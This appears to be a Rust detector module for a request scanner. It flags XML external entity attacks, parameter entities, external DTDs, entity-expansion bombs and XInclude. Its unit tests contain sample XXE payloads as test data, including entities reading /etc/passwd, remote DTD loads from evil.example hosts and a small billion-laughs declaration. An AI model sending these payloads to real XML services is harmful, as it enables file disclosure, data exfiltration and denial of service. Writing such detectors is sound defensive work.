//! XML external entities and related XML injection: entity declarations that read files or
//! URLs (`<!ENTITY x SYSTEM "file:///etc/passwd">`), parameter entities (the out-of-band
//! XXE technique), external DTDs, entity-expansion bombs, and XInclude.
//!
//! How: the XML walker hands the document type declaration over whole (`<!DOCTYPE …>`), and
//! XML pasted into a parameter arrives as text; the shared trigger words find `<!entity`,
//! `<!doctype` and `xi:include`/`/xinclude` in the lowercased value, and the declaration is
//! read up to its `>`.

use crate::detector::{Detector, Features, Input, Sink, WordSet};
use crate::rule::{Class, Rule, Severity};

/// An external entity: `<!ENTITY name SYSTEM|PUBLIC …>`.
pub(crate) static EXTERNAL_ENTITY: Rule = Rule {
    id: "xxe.external-entity",
    class: Class::Xxe,
    paranoia: 1,
    severity: Severity::Critical,
    description: "XML external entity declaration (SYSTEM or PUBLIC)",
};

/// A parameter entity: `<!ENTITY % name …>` (out-of-band XXE, DTD injection).
pub(crate) static PARAMETER_ENTITY: Rule = Rule {
    id: "xxe.parameter-entity",
    class: Class::Xxe,
    paranoia: 1,
    severity: Severity::Critical,
    description: "XML parameter entity declaration",
};

/// An internal entity declaration: what entity-expansion bombs are made of; critical when
/// several are declared.
pub(crate) static ENTITY: Rule = Rule {
    id: "xxe.entity",
    class: Class::Xxe,
    paranoia: 1,
    severity: Severity::Error,
    description: "XML entity declaration",
};

/// Several entity declarations in one document (billion laughs).
pub(crate) static EXPANSION: Rule = Rule {
    id: "xxe.entity-expansion",
    class: Class::Xxe,
    paranoia: 1,
    severity: Severity::Critical,
    description: "several XML entity declarations (entity expansion bomb)",
};

/// A document type declaration that loads an external DTD.
pub(crate) static EXTERNAL_DTD: Rule = Rule {
    id: "xxe.external-dtd",
    class: Class::Xxe,
    paranoia: 1,
    severity: Severity::Error,
    description: "XML document type with an external DTD",
};

/// XInclude, which makes the parser read another document.
pub(crate) static XINCLUDE: Rule = Rule {
    id: "xxe.xinclude",
    class: Class::Xxe,
    paranoia: 1,
    severity: Severity::Critical,
    description: "XInclude (xi:include)",
};

/// The xxe detector.
pub(crate) static DETECTOR: Detector = Detector {
    class: Class::Xxe,
    rules: &[
        &EXTERNAL_ENTITY,
        &PARAMETER_ENTITY,
        &ENTITY,
        &EXPANSION,
        &EXTERNAL_DTD,
        &XINCLUDE,
    ],
    alnum: false,
    scan,
};

/// The words looked for, for the [`super::TRIGGER_WORDS`], in the order of [`Word`].
pub(super) const WORDS: [&[u8]; 4] = [b"<!entity", b"<!doctype", b"xi:include", b"/xinclude"];

/// The index of each word in [`WORDS`].
#[derive(Clone, Copy)]
enum Word {
    Entity = 0,
    Doctype = 1,
    XInclude = 2,
    XIncludeNamespace = 3,
}

fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
    let lower = input.lower;
    // Declarations need `<`; XInclude, `:` or `/`.
    if !input
        .features
        .any(Features::ANGLE | Features::COLON | Features::SLASH)
    {
        return;
    }
    let found = |word: Word| input.word_starts(WordSet::Xxe, word as usize);
    let mut entities = 0;
    for at in found(Word::Entity) {
        let decl = declaration(lower, at + 8);
        entities += 1;
        let span = at..at + 8 + decl.len();
        let words: Vec<&[u8]> = decl
            .split(|b| b.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .collect();
        if words.first() == Some(&&b"%"[..]) {
            sink.report(&PARAMETER_ENTITY, span.clone());
        }
        if words
            .iter()
            .take(3)
            .any(|w| *w == b"system" || *w == b"public")
        {
            sink.report(&EXTERNAL_ENTITY, span.clone());
        }
        sink.report(&ENTITY, span);
    }
    if entities >= 3 {
        sink.report(&EXPANSION, 0..lower.len());
    }
    if let Some(at) = found(Word::Doctype).next() {
        let decl = declaration(lower, at + 9);
        let head = &decl[..memchr::memchr(b'[', decl).unwrap_or(decl.len())];
        let words: Vec<&[u8]> = head
            .split(|b| b.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .take(3)
            .collect();
        if words.iter().any(|w| *w == b"system" || *w == b"public") && !w3c_html(head) {
            sink.report(&EXTERNAL_DTD, at..at + 9 + head.len());
        }
        // A parameter entity reference inside the internal subset (`%remote;`).
        if let Some(open) = memchr::memchr(b'[', decl) {
            let subset = &decl[open..];
            if parameter_reference(subset) {
                sink.report(&PARAMETER_ENTITY, at..at + 9 + decl.len());
            }
        }
    }
    if let Some(at) = found(Word::XInclude)
        .next()
        .or_else(|| found(Word::XIncludeNamespace).next())
    {
        sink.report(&XINCLUDE, at..at + 10);
    }
}

/// The declaration after its keyword, up to its closing `>` (the internal subset of a
/// DOCTYPE, in brackets, included).
/// Whether a document type declaration's head (`html PUBLIC "-//W3C//DTD XHTML 1.0
/// Transitional//EN" "http://www.w3.org/TR/…"`) names one of the W3C's own HTML DTDs, as
/// HTML e-mails and XHTML pages do: a parser that fetches it reads the W3C's file, which
/// holds nothing of an attacker's and sends nothing to one.
fn w3c_html(head: &[u8]) -> bool {
    let mut words = head
        .split(u8::is_ascii_whitespace)
        .filter(|w| !w.is_empty());
    if words.next() != Some(b"html") {
        return false;
    }
    // The quoted identifiers, each a W3C public id, a W3C URL or HTML5's legacy string; read
    // with runs of `/` as one, as the path-normalised form of the value has them.
    let mut quoted = head.split(|&b| b == b'"' || b == b'\'').skip(1).step_by(2);
    let w3c = |id: &[u8]| {
        let mut id = id.to_vec();
        id.dedup_by(|b, a| *a == b'/' && *b == b'/');
        id.starts_with(b"-/w3c/dtd ")
            || id.starts_with(b"http:/www.w3.org/")
            || id.starts_with(b"https:/www.w3.org/")
            || id == b"about:legacy-compat"
    };
    quoted.clone().next().is_some() && quoted.all(w3c)
}

fn declaration(lower: &[u8], start: usize) -> &[u8] {
    let rest = &lower[start.min(lower.len())..];
    let mut depth = 0usize;
    for (i, &b) in rest.iter().enumerate() {
        match b {
            b'[' => depth += 1,
            b']' => depth = depth.saturating_sub(1),
            b'>' if depth == 0 => return &rest[..i],
            _ => {}
        }
    }
    rest
}

/// Whether a `%name;` parameter-entity reference appears.
fn parameter_reference(s: &[u8]) -> bool {
    for p in memchr::memchr_iter(b'%', s) {
        let name = s[p + 1..]
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
            .count();
        if name > 0 && s.get(p + 1 + name) == Some(&b';') {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector::matches;
    use crate::location::Part;

    fn ids(text: &str) -> Vec<&'static str> {
        matches(&DETECTOR, Part::Body, "", text, 1)
    }

    #[test]
    fn external_entities() {
        let ids_ = ids("<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>");
        assert!(ids_.contains(&"xxe.external-entity"));
        let ids_ = ids("<!DOCTYPE foo [<!ENTITY % dtd SYSTEM \"http://x/e.dtd\"> %dtd;]>");
        assert!(ids_.contains(&"xxe.parameter-entity"));
        assert!(ids("<!DOCTYPE foo SYSTEM \"http://evil/x.dtd\">").contains(&"xxe.external-dtd"));
        // The W3C's HTML DTDs, as HTML e-mails declare them.
        for benign in [
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\"><html>",
            "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
            // As the path-normalised form reads it.
            "<!DOCTYPE html PUBLIC \"-/W3C/DTD XHTML 1.0 Strict/EN\" \"http:/www.w3.org/TR/x.dtd\">",
        ] {
            assert!(ids(benign).is_empty(), "{benign}: {:?}", ids(benign));
        }
        for attack in [
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://evil.example/x.dtd\">",
            "<!DOCTYPE html SYSTEM \"http://www.w3.org.evil.example/x.dtd\">",
            "<!DOCTYPE html SYSTEM \"file:///etc/passwd\">",
            "<!DOCTYPE foo PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/x.dtd\">",
        ] {
            assert!(ids(attack).contains(&"xxe.external-dtd"), "{attack}");
        }
        assert!(
            ids("<!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\"><!ENTITY c \"&b;&b;\">]>")
                .contains(&"xxe.entity-expansion")
        );
        assert_eq!(
            ids(
                "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></foo>"
            ),
            ["xxe.xinclude"]
        );
    }

    #[test]
    fn plain_xml_passes() {
        assert!(ids("<!DOCTYPE html>").is_empty());
        assert!(ids("<note><to>Tove</to></note>").is_empty());
        assert!(ids("an entity system is a design").is_empty());
    }
}
